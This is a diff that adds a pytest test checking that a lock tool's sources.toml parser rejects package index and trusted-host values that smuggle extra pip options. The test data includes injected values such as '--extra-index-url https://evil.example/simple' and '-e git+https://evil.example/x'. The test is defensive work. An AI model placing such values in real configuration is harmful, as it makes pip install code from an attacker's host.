@@ -398,3 +398,20 @@ def test_yml_refuses_a_platform_envgen_does_not_lock() -> None:
     entry = text.replace("platform: linux-64\n", "platform: linux-64<!--\n", 1)
     with pytest.raises(InputError, match=r"x.yml: platform 'linux-64<!--' is not one envgen locks"):
         parse_lock_yml(entry, "x.yml")
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "key"),
+    [
+        ('"https://pypi.org/simple"', '"https://pypi.org/simple --extra-index-url https://evil.example/simple"', "url"),
+        ('"https://pypi.org/simple"', '"-e git+https://evil.example/x"', "url"),
+        ('"https://pypi.org/simple"', '"${MIRROR}/simple -e git+https://evil.example/x"', "url"),
+        ('trusted-host = "triton.example.org"', 'trusted-host = "triton.example.org -e ."', "trusted-host"),
+    ],
+)
+def test_sources_toml_refuses_an_index_that_would_add_options(old: str, new: str, key: str) -> None:
+    # The requirements export writes `--index-url URL` and `--trusted-host HOST` lines from these.
+    text = render_sources_toml(sample_lock())
+    assert old in text
+    with pytest.raises(InputError, match=rf"indexes\[\d\]\.{key}: "):
+        parse_sources_toml(text.replace(old, new, 1), "locks/a5.sources.toml")
